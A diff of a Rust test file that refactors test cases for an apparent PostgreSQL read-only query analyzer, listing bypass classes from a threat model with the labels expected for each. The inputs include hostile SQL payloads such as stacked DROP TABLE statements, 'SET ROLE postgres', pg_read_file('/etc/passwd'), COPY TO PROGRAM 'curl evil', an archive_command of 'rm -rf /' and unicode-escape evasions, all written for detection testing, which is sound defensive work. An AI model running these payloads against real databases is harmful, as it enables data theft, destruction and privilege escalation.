@@ -26,233 +26,239 @@ fn check(cases: &[(&str, &[&str])]) {
     assert!(failures.is_empty(), "{}", failures.join("\n\n"));
 }
 
+/// The cases of [`threat_model_bypass_classes`].
+const BYPASS_CLASSES: &[(&str, &[&str])] = &[
+    // 1. Stacked statements.
+    ("COMMIT; DROP TABLE users", &["statements:2", "kind:transaction", "kind:ddl", "construct:transaction_control", "construct:ddl"]),
+    ("ROLLBACK; DELETE FROM users", &["statements:2", "construct:data_modifying_statement", "write:public.users"]),
+    ("END; SELECT 1", &["statements:2", "construct:transaction_control"]),
+    ("SELECT 1; SELECT 2", &["statements:2", "read_only"]),
+    // 2. Switching the transaction to read-write.
+    ("SET TRANSACTION READ WRITE", &["construct:read_write_transaction", "construct:session_change", "setting:set:transaction_read_only"]),
+    ("BEGIN READ WRITE", &["construct:read_write_transaction", "construct:transaction_control"]),
+    ("START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE", &["construct:read_write_transaction"]),
+    ("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", &["construct:read_write_transaction", "setting:set:default_transaction_read_only"]),
+    ("SET default_transaction_read_only = off", &["construct:session_change", "setting:set:default_transaction_read_only"]),
+    ("SELECT set_config('default_transaction_read_only', 'off', false)", &["construct:side_effect_function", "risk:configuration", "setting:write:default_transaction_read_only"]),
+    ("RESET ALL", &["kind:reset", "construct:session_change", "setting:reset:all"]),
+    ("DISCARD ALL", &["kind:discard", "construct:session_change"]),
+    // 3. Data-modifying CTEs, at any depth.
+    ("WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d", &["kind:select", "construct:data_modifying_cte", "write:public.users", "cte:d", "nested:delete"]),
+    ("SELECT * FROM (WITH x AS (UPDATE t SET a = 1 RETURNING a) SELECT * FROM x) s", &["construct:data_modifying_cte", "write:public.t"]),
+    ("SELECT (WITH i AS (INSERT INTO log VALUES (1) RETURNING 1) SELECT 1 FROM i)", &["construct:data_modifying_cte", "write:public.log"]),
+    ("WITH m AS (MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE RETURNING t.*) SELECT * FROM m", &["construct:data_modifying_cte", "write:public.t", "read:public.s"]),
+    // 4. SELECT … INTO, also nested.
+    ("SELECT * INTO newtable FROM users", &["construct:select_into", "create:public.newtable", "into:public.newtable", "read:public.users"]),
+    ("SELECT 1 UNION SELECT 2 INTO t2", &["construct:select_into"]),
+    ("CREATE TABLE t3 AS SELECT * FROM users", &["construct:ddl", "create:public.t3", "read:public.users"]),
+    // 5. Row locks, also in subqueries.
+    ("SELECT * FROM users FOR UPDATE", &["construct:row_lock", "lock:public.users", "lockclause:for_update"]),
+    ("SELECT * FROM users u JOIN orders o ON o.uid = u.id FOR NO KEY UPDATE OF o", &["lockclause:for_no_key_update", "lock:public.orders", "!lock:public.users"]),
+    ("SELECT * FROM (SELECT * FROM users FOR SHARE) s", &["construct:row_lock", "lockclause:for_share"]),
+    ("SELECT id FROM users WHERE id IN (SELECT uid FROM orders FOR KEY SHARE)", &["lockclause:for_key_share", "lock:public.orders"]),
+    // 6. EXPLAIN ANALYZE of a write (and of a read, which only reads).
+    ("EXPLAIN ANALYZE DELETE FROM users", &["construct:explain_analyze_write", "explain_analyze", "write:public.users", "nested:delete"]),
+    ("EXPLAIN (ANALYZE, BUFFERS) INSERT INTO t VALUES (1)", &["construct:explain_analyze_write"]),
+    ("EXPLAIN (ANALYZE true) UPDATE t SET a = 1", &["construct:explain_analyze_write"]),
+    ("EXPLAIN ANALYZE SELECT * FROM users", &["read_only", "explain_analyze", "read:public.users"]),
+    ("EXPLAIN (ANALYZE false) DELETE FROM users", &["!explain_analyze", "read_only", "nested:delete"]),
+    ("EXPLAIN DELETE FROM users", &["!explain_analyze", "nested:delete"]),
+    // 7. Statements PostgreSQL allows in a READ ONLY transaction.
+    ("SET search_path = evil, pg_catalog", &["construct:session_change", "setting:set:search_path"]),
+    ("PREPARE p AS DELETE FROM users", &["kind:prepare", "construct:prepared_statement", "write:public.users"]),
+    ("EXECUTE p(1)", &["kind:execute", "construct:prepared_statement"]),
+    ("DECLARE c CURSOR FOR SELECT * FROM users", &["kind:cursor", "construct:cursor", "read:public.users"]),
+    ("FETCH 10 FROM c", &["kind:cursor"]),
+    ("LOAD 'plpgsql'", &["kind:load", "construct:load_library"]),
+    ("VACUUM users", &["kind:maintenance", "construct:maintenance"]),
+    ("ANALYZE users", &["kind:maintenance"]),
+    ("CLUSTER users USING users_pkey", &["kind:maintenance"]),
+    ("REINDEX TABLE users", &["kind:maintenance"]),
+    ("CHECKPOINT", &["kind:maintenance"]),
+    ("LISTEN ch", &["kind:listen", "construct:notification"]),
+    ("NOTIFY ch, 'x'", &["kind:notify", "construct:notification"]),
+    ("LOCK TABLE users IN ACCESS SHARE MODE", &["kind:lock", "construct:table_lock", "lock:public.users"]),
+    ("COPY users TO STDOUT", &["kind:copy", "construct:copy", "read:public.users"]),
+    ("COPY (SELECT * FROM users) TO PROGRAM 'curl evil'", &["construct:copy", "read:public.users"]),
+    ("COPY users FROM '/etc/passwd'", &["construct:copy", "write:public.users"]),
+    ("ALTER SYSTEM SET archive_command = 'rm -rf /'", &["construct:utility"]),
+    ("DO $$ BEGIN DELETE FROM users; END $$", &["kind:do", "construct:procedural_code"]),
+    ("CALL my_proc()", &["kind:call", "construct:procedural_code", "fn:my_proc"]),
+    // 8. Side-effect and privileged functions, anywhere in a SELECT.
+    ("SELECT nextval('s')", &["risk:sequences", "construct:side_effect_function", "builtin_fn:pg_catalog.nextval"]),
+    ("SELECT setval('s', 1)", &["risk:sequences"]),
+    ("SELECT pg_terminate_backend(1)", &["risk:backend_control"]),
+    ("SELECT pg_cancel_backend(pid) FROM pg_stat_activity", &["risk:backend_control", "read:pg_catalog.pg_stat_activity"]),
+    ("SELECT pg_sleep(10)", &["risk:sleep", "read_only"]),
+    ("SELECT pg_advisory_lock(1)", &["risk:advisory_locks"]),
+    ("SELECT pg_notify('c', 'x')", &["risk:notify"]),
+    ("SELECT pg_reload_conf()", &["risk:backend_control"]),
+    ("SELECT pg_stat_reset()", &["risk:statistics_reset"]),
+    ("SELECT pg_read_file('/etc/passwd')", &["risk:server_files"]),
+    ("SELECT pg_read_binary_file('x')", &["risk:server_files"]),
+    ("SELECT * FROM pg_ls_dir('.')", &["risk:server_files"]),
+    ("SELECT pg_stat_file('x')", &["risk:server_files"]),
+    ("SELECT lo_import('/etc/passwd')", &["risk:large_objects"]),
+    ("SELECT lo_export(1, '/tmp/x')", &["risk:large_objects"]),
+    ("SELECT lo_unlink(1)", &["risk:large_objects"]),
+    ("SELECT * FROM dblink('host=x', 'DELETE FROM t') AS t(a int)", &["risk:external_session"]),
+    ("SELECT gin_clean_pending_list('i'::regclass)", &["risk:maintenance"]),
+    ("SELECT pg_backup_start('x')", &["risk:replication_backup"]),
+    ("SELECT cron.schedule('* * * * *', 'DELETE FROM t')", &["risk:scheduler", "fn:cron.schedule"]),
+    // Functions in every position.
+    ("SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM t", &["risk:sleep"]),
+    ("SELECT sum(a) OVER (PARTITION BY pg_sleep(1)) FROM t", &["risk:sleep"]),
+    ("SELECT CASE WHEN true THEN nextval('s') END", &["risk:sequences"]),
+    ("SELECT ARRAY[nextval('s')]", &["risk:sequences"]),
+    ("VALUES (nextval('s'))", &["risk:sequences"]),
+    ("SELECT * FROM t LIMIT (SELECT nextval('s'))", &["risk:sequences"]),
+    ("SELECT * FROM t ORDER BY pg_sleep(1)", &["risk:sleep"]),
+    ("SELECT a FROM t GROUP BY a HAVING pg_sleep(1) IS NULL", &["risk:sleep"]),
+    ("SELECT * FROM t WINDOW w AS (ORDER BY nextval('s'))", &["risk:sequences"]),
+    ("SELECT * FROM generate_series(1, nextval('s'))", &["risk:sequences", "fn:pg_catalog.generate_series"]),
+    ("SELECT * FROM t TABLESAMPLE BERNOULLI (nextval('s'))", &["risk:sequences", "fn:pg_catalog.bernoulli"]),
+    ("SELECT * FROM t, LATERAL (SELECT pg_sleep(1)) s", &["risk:sleep"]),
+    ("SELECT xmlelement(name x, nextval('s'))", &["risk:sequences"]),
+    ("SELECT json_build_object('a', nextval('s'))", &["risk:sequences"]),
+    ("SELECT COALESCE(NULL, nextval('s'))", &["risk:sequences"]),
+    ("SELECT 1 WHERE EXISTS (SELECT pg_sleep(1))", &["risk:sleep"]),
+    // 9. Functions that run SQL given as text.
+    ("SELECT query_to_xml('DELETE FROM users RETURNING *', true, true, '')", &["risk:dynamic_sql", "construct:side_effect_function"]),
+    ("SELECT cursor_to_xml('c', 1, true, true, '')", &["risk:dynamic_sql"]),
+    ("SELECT table_to_xml('users', true, true, '')", &["risk:dynamic_sql"]),
+    ("SELECT * FROM ts_stat('SELECT v FROM t')", &["risk:dynamic_sql"]),
+    ("SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM aliases')", &["risk:dynamic_sql"]),
+    // 10. Identity switches.
+    ("SET ROLE postgres", &["construct:identity_switch", "setting:set:role"]),
+    ("SET SESSION AUTHORIZATION postgres", &["construct:identity_switch", "setting:set:session_authorization"]),
+    ("SELECT set_config('role', 'postgres', false)", &["setting:write:role", "risk:configuration"]),
+    // 11. search_path: unqualified names resolve through the pinned path.
+    ("SELECT * FROM pg_authid", &["read:pg_catalog.pg_authid"]),
+    ("SELECT * FROM users", &["read:public.users"]),
+    ("SELECT * FROM information_schema.tables", &["read:information_schema.tables"]),
+    ("SELECT lower('A')", &["builtin_fn:pg_catalog.lower"]),
+    // 12. Name resolution: CTE scope, qualification, case.
+    ("WITH users AS (SELECT * FROM users) SELECT * FROM users", &["read:public.users", "cte:users"]),
+    ("WITH x AS (SELECT 1) SELECT * FROM public.x", &["read:public.x", "!cte:x"]),
+    ("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a", &["read:public.b"]),
+    ("WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r", &["cte:r", "!read:public.r"]),
+    ("SELECT * FROM (WITH s AS (SELECT 1) SELECT * FROM s) q, s", &["read:public.s", "cte:s"]),
+    ("SELECT * FROM \"Users\"", &["read:public.Users", "!read:public.users"]),
+    ("SELECT * FROM USERS", &["read:public.users"]),
+    ("SELECT * FROM \"public\".\"secret\"", &["read:public.secret"]),
+    ("WITH t AS (SELECT 1) DELETE FROM t", &["write:public.t"]),
+    // 13. Unicode escapes are decoded by the parser.
+    ("SELECT U&\"pg_read_fil\\0065\"('x')", &["risk:server_files", "fn:pg_catalog.pg_read_file"]),
+    ("SELECT U&\"pg_read_fil!0065\" UESCAPE '!'('x')", &["risk:server_files"]),
+    ("SELECT * FROM U&\"pg_auth\\0069d\"", &["read:pg_catalog.pg_authid"]),
+    // 14. Lexer differentials: parsed as the pinned server lexes (standard_conforming_strings
+    // on, so a backslash does not escape a quote in a plain string).
+    ("SELECT 'x\\'; DROP TABLE t; --'", &["statements:2", "kind:ddl"]),
+    ("SELECT E'x\\'; DROP TABLE t; --'", &["statements:1", "read_only"]),
+    // 15. Long ordinary expressions are analyzed correctly (see also `parser_limits`).
+    ("SELECT pg_sleep(1) + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1", &["risk:sleep"]),
+];
+
 /// Every bypass class of `../shared/docs/threat-model.md`, by number.
 #[test]
 fn threat_model_bypass_classes() {
-    check(&[
-        // 1. Stacked statements.
-        ("COMMIT; DROP TABLE users", &["statements:2", "kind:transaction", "kind:ddl", "construct:transaction_control", "construct:ddl"]),
-        ("ROLLBACK; DELETE FROM users", &["statements:2", "construct:data_modifying_statement", "write:public.users"]),
-        ("END; SELECT 1", &["statements:2", "construct:transaction_control"]),
-        ("SELECT 1; SELECT 2", &["statements:2", "read_only"]),
-        // 2. Switching the transaction to read-write.
-        ("SET TRANSACTION READ WRITE", &["construct:read_write_transaction", "construct:session_change", "setting:set:transaction_read_only"]),
-        ("BEGIN READ WRITE", &["construct:read_write_transaction", "construct:transaction_control"]),
-        ("START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE", &["construct:read_write_transaction"]),
-        ("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", &["construct:read_write_transaction", "setting:set:default_transaction_read_only"]),
-        ("SET default_transaction_read_only = off", &["construct:session_change", "setting:set:default_transaction_read_only"]),
-        ("SELECT set_config('default_transaction_read_only', 'off', false)", &["construct:side_effect_function", "risk:configuration", "setting:write:default_transaction_read_only"]),
-        ("RESET ALL", &["kind:reset", "construct:session_change", "setting:reset:all"]),
-        ("DISCARD ALL", &["kind:discard", "construct:session_change"]),
-        // 3. Data-modifying CTEs, at any depth.
-        ("WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d", &["kind:select", "construct:data_modifying_cte", "write:public.users", "cte:d", "nested:delete"]),
-        ("SELECT * FROM (WITH x AS (UPDATE t SET a = 1 RETURNING a) SELECT * FROM x) s", &["construct:data_modifying_cte", "write:public.t"]),
-        ("SELECT (WITH i AS (INSERT INTO log VALUES (1) RETURNING 1) SELECT 1 FROM i)", &["construct:data_modifying_cte", "write:public.log"]),
-        ("WITH m AS (MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE RETURNING t.*) SELECT * FROM m", &["construct:data_modifying_cte", "write:public.t", "read:public.s"]),
-        // 4. SELECT … INTO, also nested.
-        ("SELECT * INTO newtable FROM users", &["construct:select_into", "create:public.newtable", "into:public.newtable", "read:public.users"]),
-        ("SELECT 1 UNION SELECT 2 INTO t2", &["construct:select_into"]),
-        ("CREATE TABLE t3 AS SELECT * FROM users", &["construct:ddl", "create:public.t3", "read:public.users"]),
-        // 5. Row locks, also in subqueries.
-        ("SELECT * FROM users FOR UPDATE", &["construct:row_lock", "lock:public.users", "lockclause:for_update"]),
-        ("SELECT * FROM users u JOIN orders o ON o.uid = u.id FOR NO KEY UPDATE OF o", &["lockclause:for_no_key_update", "lock:public.orders", "!lock:public.users"]),
-        ("SELECT * FROM (SELECT * FROM users FOR SHARE) s", &["construct:row_lock", "lockclause:for_share"]),
-        ("SELECT id FROM users WHERE id IN (SELECT uid FROM orders FOR KEY SHARE)", &["lockclause:for_key_share", "lock:public.orders"]),
-        // 6. EXPLAIN ANALYZE of a write (and of a read, which only reads).
-        ("EXPLAIN ANALYZE DELETE FROM users", &["construct:explain_analyze_write", "explain_analyze", "write:public.users", "nested:delete"]),
-        ("EXPLAIN (ANALYZE, BUFFERS) INSERT INTO t VALUES (1)", &["construct:explain_analyze_write"]),
-        ("EXPLAIN (ANALYZE true) UPDATE t SET a = 1", &["construct:explain_analyze_write"]),
-        ("EXPLAIN ANALYZE SELECT * FROM users", &["read_only", "explain_analyze", "read:public.users"]),
-        ("EXPLAIN (ANALYZE false) DELETE FROM users", &["!explain_analyze", "read_only", "nested:delete"]),
-        ("EXPLAIN DELETE FROM users", &["!explain_analyze", "nested:delete"]),
-        // 7. Statements PostgreSQL allows in a READ ONLY transaction.
-        ("SET search_path = evil, pg_catalog", &["construct:session_change", "setting:set:search_path"]),
-        ("PREPARE p AS DELETE FROM users", &["kind:prepare", "construct:prepared_statement", "write:public.users"]),
-        ("EXECUTE p(1)", &["kind:execute", "construct:prepared_statement"]),
-        ("DECLARE c CURSOR FOR SELECT * FROM users", &["kind:cursor", "construct:cursor", "read:public.users"]),
-        ("FETCH 10 FROM c", &["kind:cursor"]),
-        ("LOAD 'plpgsql'", &["kind:load", "construct:load_library"]),
-        ("VACUUM users", &["kind:maintenance", "construct:maintenance"]),
-        ("ANALYZE users", &["kind:maintenance"]),
-        ("CLUSTER users USING users_pkey", &["kind:maintenance"]),
-        ("REINDEX TABLE users", &["kind:maintenance"]),
-        ("CHECKPOINT", &["kind:maintenance"]),
-        ("LISTEN ch", &["kind:listen", "construct:notification"]),
-        ("NOTIFY ch, 'x'", &["kind:notify", "construct:notification"]),
-        ("LOCK TABLE users IN ACCESS SHARE MODE", &["kind:lock", "construct:table_lock", "lock:public.users"]),
-        ("COPY users TO STDOUT", &["kind:copy", "construct:copy", "read:public.users"]),
-        ("COPY (SELECT * FROM users) TO PROGRAM 'curl evil'", &["construct:copy", "read:public.users"]),
-        ("COPY users FROM '/etc/passwd'", &["construct:copy", "write:public.users"]),
-        ("ALTER SYSTEM SET archive_command = 'rm -rf /'", &["construct:utility"]),
-        ("DO $$ BEGIN DELETE FROM users; END $$", &["kind:do", "construct:procedural_code"]),
-        ("CALL my_proc()", &["kind:call", "construct:procedural_code", "fn:my_proc"]),
-        // 8. Side-effect and privileged functions, anywhere in a SELECT.
-        ("SELECT nextval('s')", &["risk:sequences", "construct:side_effect_function", "builtin_fn:pg_catalog.nextval"]),
-        ("SELECT setval('s', 1)", &["risk:sequences"]),
-        ("SELECT pg_terminate_backend(1)", &["risk:backend_control"]),
-        ("SELECT pg_cancel_backend(pid) FROM pg_stat_activity", &["risk:backend_control", "read:pg_catalog.pg_stat_activity"]),
-        ("SELECT pg_sleep(10)", &["risk:sleep", "read_only"]),
-        ("SELECT pg_advisory_lock(1)", &["risk:advisory_locks"]),
-        ("SELECT pg_notify('c', 'x')", &["risk:notify"]),
-        ("SELECT pg_reload_conf()", &["risk:backend_control"]),
-        ("SELECT pg_stat_reset()", &["risk:statistics_reset"]),
-        ("SELECT pg_read_file('/etc/passwd')", &["risk:server_files"]),
-        ("SELECT pg_read_binary_file('x')", &["risk:server_files"]),
-        ("SELECT * FROM pg_ls_dir('.')", &["risk:server_files"]),
-        ("SELECT pg_stat_file('x')", &["risk:server_files"]),
-        ("SELECT lo_import('/etc/passwd')", &["risk:large_objects"]),
-        ("SELECT lo_export(1, '/tmp/x')", &["risk:large_objects"]),
-        ("SELECT lo_unlink(1)", &["risk:large_objects"]),
-        ("SELECT * FROM dblink('host=x', 'DELETE FROM t') AS t(a int)", &["risk:external_session"]),
-        ("SELECT gin_clean_pending_list('i'::regclass)", &["risk:maintenance"]),
-        ("SELECT pg_backup_start('x')", &["risk:replication_backup"]),
-        ("SELECT cron.schedule('* * * * *', 'DELETE FROM t')", &["risk:scheduler", "fn:cron.schedule"]),
-        // Functions in every position.
-        ("SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM t", &["risk:sleep"]),
-        ("SELECT sum(a) OVER (PARTITION BY pg_sleep(1)) FROM t", &["risk:sleep"]),
-        ("SELECT CASE WHEN true THEN nextval('s') END", &["risk:sequences"]),
-        ("SELECT ARRAY[nextval('s')]", &["risk:sequences"]),
-        ("VALUES (nextval('s'))", &["risk:sequences"]),
-        ("SELECT * FROM t LIMIT (SELECT nextval('s'))", &["risk:sequences"]),
-        ("SELECT * FROM t ORDER BY pg_sleep(1)", &["risk:sleep"]),
-        ("SELECT a FROM t GROUP BY a HAVING pg_sleep(1) IS NULL", &["risk:sleep"]),
-        ("SELECT * FROM t WINDOW w AS (ORDER BY nextval('s'))", &["risk:sequences"]),
-        ("SELECT * FROM generate_series(1, nextval('s'))", &["risk:sequences", "fn:pg_catalog.generate_series"]),
-        ("SELECT * FROM t TABLESAMPLE BERNOULLI (nextval('s'))", &["risk:sequences", "fn:pg_catalog.bernoulli"]),
-        ("SELECT * FROM t, LATERAL (SELECT pg_sleep(1)) s", &["risk:sleep"]),
-        ("SELECT xmlelement(name x, nextval('s'))", &["risk:sequences"]),
-        ("SELECT json_build_object('a', nextval('s'))", &["risk:sequences"]),
-        ("SELECT COALESCE(NULL, nextval('s'))", &["risk:sequences"]),
-        ("SELECT 1 WHERE EXISTS (SELECT pg_sleep(1))", &["risk:sleep"]),
-        // 9. Functions that run SQL given as text.
-        ("SELECT query_to_xml('DELETE FROM users RETURNING *', true, true, '')", &["risk:dynamic_sql", "construct:side_effect_function"]),
-        ("SELECT cursor_to_xml('c', 1, true, true, '')", &["risk:dynamic_sql"]),
-        ("SELECT table_to_xml('users', true, true, '')", &["risk:dynamic_sql"]),
-        ("SELECT * FROM ts_stat('SELECT v FROM t')", &["risk:dynamic_sql"]),
-        ("SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM aliases')", &["risk:dynamic_sql"]),
-        // 10. Identity switches.
-        ("SET ROLE postgres", &["construct:identity_switch", "setting:set:role"]),
-        ("SET SESSION AUTHORIZATION postgres", &["construct:identity_switch", "setting:set:session_authorization"]),
-        ("SELECT set_config('role', 'postgres', false)", &["setting:write:role", "risk:configuration"]),
-        // 11. search_path: unqualified names resolve through the pinned path.
-        ("SELECT * FROM pg_authid", &["read:pg_catalog.pg_authid"]),
-        ("SELECT * FROM users", &["read:public.users"]),
-        ("SELECT * FROM information_schema.tables", &["read:information_schema.tables"]),
-        ("SELECT lower('A')", &["builtin_fn:pg_catalog.lower"]),
-        // 12. Name resolution: CTE scope, qualification, case.
-        ("WITH users AS (SELECT * FROM users) SELECT * FROM users", &["read:public.users", "cte:users"]),
-        ("WITH x AS (SELECT 1) SELECT * FROM public.x", &["read:public.x", "!cte:x"]),
-        ("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a", &["read:public.b"]),
-        ("WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r", &["cte:r", "!read:public.r"]),
-        ("SELECT * FROM (WITH s AS (SELECT 1) SELECT * FROM s) q, s", &["read:public.s", "cte:s"]),
-        ("SELECT * FROM \"Users\"", &["read:public.Users", "!read:public.users"]),
-        ("SELECT * FROM USERS", &["read:public.users"]),
-        ("SELECT * FROM \"public\".\"secret\"", &["read:public.secret"]),
-        ("WITH t AS (SELECT 1) DELETE FROM t", &["write:public.t"]),
-        // 13. Unicode escapes are decoded by the parser.
-        ("SELECT U&\"pg_read_fil\\0065\"('x')", &["risk:server_files", "fn:pg_catalog.pg_read_file"]),
-        ("SELECT U&\"pg_read_fil!0065\" UESCAPE '!'('x')", &["risk:server_files"]),
-        ("SELECT * FROM U&\"pg_auth\\0069d\"", &["read:pg_catalog.pg_authid"]),
-        // 14. Lexer differentials: parsed as the pinned server lexes (standard_conforming_strings
-        // on, so a backslash does not escape a quote in a plain string).
-        ("SELECT 'x\\'; DROP TABLE t; --'", &["statements:2", "kind:ddl"]),
-        ("SELECT E'x\\'; DROP TABLE t; --'", &["statements:1", "read_only"]),
-        // 15. Long ordinary expressions are analyzed correctly (see also `parser_limits`).
-        ("SELECT pg_sleep(1) + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1", &["risk:sleep"]),
-    ]);
+    check(BYPASS_CLASSES);
 }
+
+/// The cases of [`relations_everywhere`].
+const RELATIONS_EVERYWHERE: &[(&str, &[&str])] = &[
+    (
+        "TABLE secret",
+        &["read:public.secret", "star:public.secret"],
+    ),
+    (
+        "SELECT * FROM a JOIN b USING (id) LEFT JOIN c ON true",
+        &["read:public.a", "read:public.b", "read:public.c"],
+    ),
+    (
+        "SELECT (SELECT x FROM a) FROM b",
+        &["read:public.a", "read:public.b"],
+    ),
+    ("SELECT 1 WHERE 1 IN (SELECT x FROM a)", &["read:public.a"]),
+    (
+        "SELECT * FROM t LIMIT (SELECT count(*) FROM secret)",
+        &["read:public.secret"],
+    ),
+    (
+        "SELECT * FROM t OFFSET (SELECT 1 FROM secret)",
+        &["read:public.secret"],
+    ),
+    ("VALUES ((SELECT x FROM secret))", &["read:public.secret"]),
+    (
+        "SELECT * FROM t TABLESAMPLE SYSTEM (10)",
+        &["read:public.t"],
+    ),
+    (
+        "SELECT * FROM t, LATERAL (SELECT * FROM secret WHERE secret.id = t.id) s",
+        &["read:public.secret"],
+    ),
+    (
+        "SELECT rank() OVER (ORDER BY (SELECT 1 FROM secret)) FROM t",
+        &["read:public.secret"],
+    ),
+    (
+        "SELECT a FROM t GROUP BY a HAVING a > (SELECT min(x) FROM secret)",
+        &["read:public.secret"],
+    ),
+    (
+        "SELECT a FROM t GROUP BY GROUPING SETS ((a), ((SELECT 1 FROM secret)))",
+        &["read:public.secret"],
+    ),
+    (
+        "SELECT * FROM t ORDER BY (SELECT 1 FROM secret)",
+        &["read:public.secret"],
+    ),
+    (
+        "SELECT 1 UNION SELECT x FROM secret",
+        &["read:public.secret"],
+    ),
+    (
+        "SELECT 1 EXCEPT (SELECT x FROM secret INTERSECT SELECT y FROM other)",
+        &["read:public.secret", "read:public.other"],
+    ),
+    (
+        "SELECT ARRAY(SELECT x FROM secret)",
+        &["read:public.secret"],
+    ),
+    (
+        "SELECT * FROM ROWS FROM (generate_series(1, 2)) g",
+        &["fn:pg_catalog.generate_series"],
+    ),
+    (
+        "SELECT * FROM XMLTABLE('/r' PASSING (SELECT x FROM secret) COLUMNS a int)",
+        &["read:public.secret"],
+    ),
+    (
+        "SELECT * FROM JSON_TABLE((SELECT j FROM secret), '$' COLUMNS (a int))",
+        &["read:public.secret"],
+    ),
+    (
+        "UPDATE t SET a = s.a FROM secret s",
+        &["write:public.t", "read:public.secret"],
+    ),
+    (
+        "DELETE FROM t USING secret s WHERE s.id = t.id",
+        &["write:public.t", "read:public.secret"],
+    ),
+    (
+        "INSERT INTO t SELECT * FROM secret ON CONFLICT (id) DO UPDATE SET a = 1",
+        &["write:public.t", "read:public.secret"],
+    ),
+    (
+        "SELECT * FROM app.orders o WHERE o.total > 10",
+        &["read:app.orders", "col:app.orders.total"],
+    ),
+];
 
 /// Relations and columns in every position of a query.
 #[test]
 fn relations_everywhere() {
-    check(&[
-        (
-            "TABLE secret",
-            &["read:public.secret", "star:public.secret"],
-        ),
-        (
-            "SELECT * FROM a JOIN b USING (id) LEFT JOIN c ON true",
-            &["read:public.a", "read:public.b", "read:public.c"],
-        ),
-        (
-            "SELECT (SELECT x FROM a) FROM b",
-            &["read:public.a", "read:public.b"],
-        ),
-        ("SELECT 1 WHERE 1 IN (SELECT x FROM a)", &["read:public.a"]),
-        (
-            "SELECT * FROM t LIMIT (SELECT count(*) FROM secret)",
-            &["read:public.secret"],
-        ),
-        (
-            "SELECT * FROM t OFFSET (SELECT 1 FROM secret)",
-            &["read:public.secret"],
-        ),
-        ("VALUES ((SELECT x FROM secret))", &["read:public.secret"]),
-        (
-            "SELECT * FROM t TABLESAMPLE SYSTEM (10)",
-            &["read:public.t"],
-        ),
-        (
-            "SELECT * FROM t, LATERAL (SELECT * FROM secret WHERE secret.id = t.id) s",
-            &["read:public.secret"],
-        ),
-        (
-            "SELECT rank() OVER (ORDER BY (SELECT 1 FROM secret)) FROM t",
-            &["read:public.secret"],
-        ),
-        (
-            "SELECT a FROM t GROUP BY a HAVING a > (SELECT min(x) FROM secret)",
-            &["read:public.secret"],
-        ),
-        (
-            "SELECT a FROM t GROUP BY GROUPING SETS ((a), ((SELECT 1 FROM secret)))",
-            &["read:public.secret"],
-        ),
-        (
-            "SELECT * FROM t ORDER BY (SELECT 1 FROM secret)",
-            &["read:public.secret"],
-        ),
-        (
-            "SELECT 1 UNION SELECT x FROM secret",
-            &["read:public.secret"],
-        ),
-        (
-            "SELECT 1 EXCEPT (SELECT x FROM secret INTERSECT SELECT y FROM other)",
-            &["read:public.secret", "read:public.other"],
-        ),
-        (
-            "SELECT ARRAY(SELECT x FROM secret)",
-            &["read:public.secret"],
-        ),
-        (
-            "SELECT * FROM ROWS FROM (generate_series(1, 2)) g",
-            &["fn:pg_catalog.generate_series"],
-        ),
-        (
-            "SELECT * FROM XMLTABLE('/r' PASSING (SELECT x FROM secret) COLUMNS a int)",
-            &["read:public.secret"],
-        ),
-        (
-            "SELECT * FROM JSON_TABLE((SELECT j FROM secret), '$' COLUMNS (a int))",
-            &["read:public.secret"],
-        ),
-        (
-            "UPDATE t SET a = s.a FROM secret s",
-            &["write:public.t", "read:public.secret"],
-        ),
-        (
-            "DELETE FROM t USING secret s WHERE s.id = t.id",
-            &["write:public.t", "read:public.secret"],
-        ),
-        (
-            "INSERT INTO t SELECT * FROM secret ON CONFLICT (id) DO UPDATE SET a = 1",
-            &["write:public.t", "read:public.secret"],
-        ),
-        (
-            "SELECT * FROM app.orders o WHERE o.total > 10",
-            &["read:app.orders", "col:app.orders.total"],
-        ),
-    ]);
+    check(RELATIONS_EVERYWHERE);
 }
 
 /// Columns read, for `columns.deny`: named, qualified, `*`, `t.*` and whole-row references.
